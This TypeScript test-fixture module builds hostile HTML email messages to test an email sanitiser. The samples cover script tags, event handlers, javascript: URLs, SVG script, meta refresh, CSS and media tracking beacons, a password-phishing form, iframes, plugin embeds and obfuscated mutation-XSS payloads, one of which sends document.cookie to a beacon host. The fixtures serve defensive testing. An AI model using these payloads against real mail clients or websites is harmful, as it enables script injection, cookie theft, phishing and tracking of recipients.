// Hostile HTML bodies, one technique per message. Every remote reference points at the
// beacon origin under a path naming the technique, so a test can prove nothing was fetched
// and, if something was, say which trick got through.
import type { MessageDef, Msg } from './message';
import { html, multipart, textPart } from './mime-build';
import { people } from './people';

interface HostileSpec {
  slug: string;
  subject: string;
  tags: string[];
  html: (b: string, m: Msg) => string;
  /** HTML only, no text/plain alternative. */
  htmlOnly?: boolean;
}

const page = (body: string, head = ''): string =>
  `<!DOCTYPE html>\n<html><head><meta charset="utf-8">${head}</head>\n<body>\n${body}\n</body></html>\n`;

const specs: HostileSpec[] = [
  {
    slug: 'script-tag',
    subject: 'Your account statement',
    tags: ['script'],
    html: (b) => page(`<p>Statement below.</p>\n<script>alert(1)</script>\n<script src="${b}/script.js"></script>\n<script>new Image().src='${b}/script-inline?c='+document.cookie</script>`),
  },
  {
    slug: 'img-onerror',
    subject: 'Photo from the party',
    tags: ['event-handler'],
    html: (b) => page(`<img src=x onerror=alert(1)>\n<img src="${b}/img-onload.png" onload="alert(2)">\n<p onmouseover="alert(3)">Hover me</p>`),
  },
  {
    slug: 'body-onload',
    subject: 'Welcome aboard',
    tags: ['event-handler'],
    htmlOnly: true,
    html: (b) =>
      `<html><body onload="alert(1);new Image().src='${b}/body-onload'" onpageshow="alert(2)"><p>Welcome!</p>` +
      `<div autofocus tabindex="0" onfocus="fetch('${b}/onfocus')">focus</div></body></html>\n`,
  },
  {
    slug: 'javascript-href',
    subject: 'Click to confirm your address',
    tags: ['javascript-url'],
    html: () =>
      page(
        '<p><a href="javascript:alert(1)">Confirm</a></p>\n<p><a href="JaVaScRiPt:alert(2)">Confirm (mixed case)</a></p>\n' +
          '<p><a href="jav&#x09;ascript:alert(3)">Confirm (entity tab)</a></p>\n<p><a href="  javascript:alert(4)">Confirm (spaces)</a></p>\n' +
          '<p><a href="vbscript:msgbox(5)">Confirm (vbscript)</a></p>\n' +
          '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">Confirm (data URL)</a></p>\n' +
          '<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:alert(7)"></map>',
      ),
  },
  {
    slug: 'svg-inline',
    subject: 'Diagram for the review',
    tags: ['svg', 'script', 'event-handler'],
    html: (b) =>
      page(
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="alert(1)">\n` +
          `<script>alert(2)</script>\n<image href="${b}/svg-image.png" width="10" height="10"/>\n<use href="${b}/svg-sprite.svg#icon"/>\n` +
          '<a xlink:href="javascript:alert(3)"><text x="10" y="50">click</text></a>\n' +
          '<animate onbegin="alert(4)" attributeName="x" dur="1s"/>\n</svg>',
      ),
  },
  {
    slug: 'meta-refresh',
    subject: 'Redirecting you to your invoice',
    tags: ['meta'],
    htmlOnly: true,
    html: (b) =>
      page(
        `<p>If you are not redirected, <a href="${b}/meta-refresh-link">click here</a>.</p>`,
        `<meta http-equiv="refresh" content="0;url=${b}/refresh">\n<meta http-equiv="set-cookie" content="sid=stolen; path=/">\n` +
          '<meta http-equiv="x-dns-prefetch-control" content="on">',
      ),
  },
  {
    slug: 'css-beacons',
    subject: 'Styled for you',
    tags: ['css', 'remote-css'],
    html: (b) =>
      page(
        `<div style="background:url(${b}/css-beacon)">style attribute</div>\n` +
          `<div style="background-image:url('${b}/css-beacon-quoted')">quoted</div>\n` +
          `<div style="background:u\\72l(${b}/css-escaped)">CSS escape</div>\n` +
          `<div style="behavior:url(${b}/css-behavior.htc);width:expression(alert(1))">IE only</div>\n` +
          `<ul style="list-style-image:url(${b}/css-list)"><li>item</li></ul>`,
        `<style>\n@import url("${b}/css-import.css");\n@import '${b}/css-import-bare.css';\n` +
          `body{background-image:url(${b}/css-style-block)}\n@font-face{font-family:x;src:url(${b}/css-font.woff)}\n` +
          `p::after{content:url(${b}/css-content.png)}\n</style>`,
      ),
  },
  {
    slug: 'form',
    subject: 'Verify your password',
    tags: ['form', 'phishing'],
    html: (b) =>
      page(
        `<form action="${b}/form" method="post">\n<input name="email" value="inbox@example.com">\n` +
          '<input name="password" type="password" placeholder="Password" autofocus onfocus="alert(1)">\n' +
          `<button type="submit">Verify</button>\n<button formaction="${b}/form-formaction">Also verify</button>\n` +
          `<input type="image" src="${b}/form-input-image.png" alt="submit">\n</form>`,
      ),
  },
  {
    slug: 'iframe',
    subject: 'Embedded report',
    tags: ['iframe'],
    html: (b) =>
      page(
        `<iframe src="${b}/iframe" width="400" height="200"></iframe>\n<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src='${b}/iframe-srcdoc.png'&gt;"></iframe>\n` +
          '<iframe src="javascript:alert(2)"></iframe>\n' +
          `<frameset><frame src="${b}/frame"></frameset>`,
      ),
  },
  {
    slug: 'object-embed',
    subject: 'Interactive presentation',
    tags: ['object', 'embed'],
    html: (b) =>
      page(
        `<object data="${b}/object.swf" type="application/x-shockwave-flash" width="300" height="200">\n<param name="movie" value="${b}/object-param.swf">\n</object>\n` +
          `<embed src="${b}/embed.swf" type="application/x-shockwave-flash">\n<applet code="Evil.class" codebase="${b}/applet/"></applet>\n` +
          `<object data="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></object>`,
      ),
  },
  {
    slug: 'base-href',
    subject: 'Relative links',
    tags: ['base'],
    html: (b) =>
      page('<img src="base-relative.png" alt="">\n<a href="base-relative-link">relative link</a>\n<img src="/base-absolute-path.png" alt="">', `<base href="${b}/base/">`),
  },
  {
    slug: 'link-stylesheet',
    subject: 'Brand refresh',
    tags: ['link', 'remote-css'],
    html: (b) =>
      page(
        '<p>Our new look.</p>',
        `<link rel=stylesheet href=${b}/x.css>\n<link rel="preload" href="${b}/link-preload.png" as="image">\n` +
          `<link rel="prefetch" href="${b}/link-prefetch">\n<link rel="dns-prefetch" href="${b}/">\n<link rel="preconnect" href="${b}/">\n` +
          `<link rel="icon" href="${b}/favicon.ico">\n<link rel="import" href="${b}/link-import.html">`,
      ),
  },
  {
    slug: 'media-beacons',
    subject: 'Video message for you',
    tags: ['remote-images', 'media'],
    html: (b) =>
      page(
        `<video poster="${b}/media-poster.png" src="${b}/media-video.mp4" autoplay muted><source src="${b}/media-source.webm"><track src="${b}/media-track.vtt"></video>\n` +
          `<audio src="${b}/media-audio.mp3" autoplay></audio>\n<table background="${b}/media-table-bg.png"><tr><td background="${b}/media-td-bg.png">cell</td></tr></table>\n` +
          `<img srcset="${b}/media-srcset.png 2x" alt="">\n<img src="${b.replace(/^https?:/, '')}/media-protocol-relative.png" alt="">\n` +
          `<img lowsrc="${b}/media-lowsrc.png" dynsrc="${b}/media-dynsrc.avi" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">\n` +
          `<picture><source srcset="${b}/media-picture.webp"><img src="${b}/media-picture.png"></picture>`,
      ).replace('<body>', `<body background="${b}/media-body-bg.png">`),
  },
  {
    slug: 'obfuscated',
    subject: 'Nothing to see here',
    tags: ['script', 'event-handler', 'mxss'],
    html: (b) =>
      page(
        '<scr<script>ipt>alert(1)</script>\n<IMG SRC=JaVaScRiPt:alert(2)>\n<img src="x" ONERROR="alert(3)">\n' +
          '<svg><style><img src=x onerror=alert(4)></style></svg>\n<noscript><p title="</noscript><img src=x onerror=alert(5)>"></noscript>\n' +
          '<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>\n' +
          '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(7)">entities</a>\n' +
          '<!--<img src="--><img src=x onerror=alert(8)//">\n<template><script>alert(9)</script></template>\n' +
          `<div id="x" data-src="${b}/obfuscated-data-attr"></div><img src="x" onerror="this.src='${b}/obfuscated-onerror'">`,
      ),
  },
];

export const hostileHtmlMessages: MessageDef[] = specs.map((spec) => ({
  name: `hostile-${spec.slug}`,
  tags: ['hostile', 'html', ...spec.tags, ...(spec.htmlOnly ? ['html-only'] : [])],
  build: (m) => {
    const body = html(spec.html(m.beacon, m));
    return {
      from: people.mallory,
      subject: spec.subject,
      verdicts: { spf: 'softfail', dkim: 'none', dmarc: 'none' },
      body: spec.htmlOnly
        ? body
        : multipart('alternative', m.boundary(), [textPart(`${spec.subject}\n\nPlease view this message in HTML.\n`), body]),
    };
  },
}));
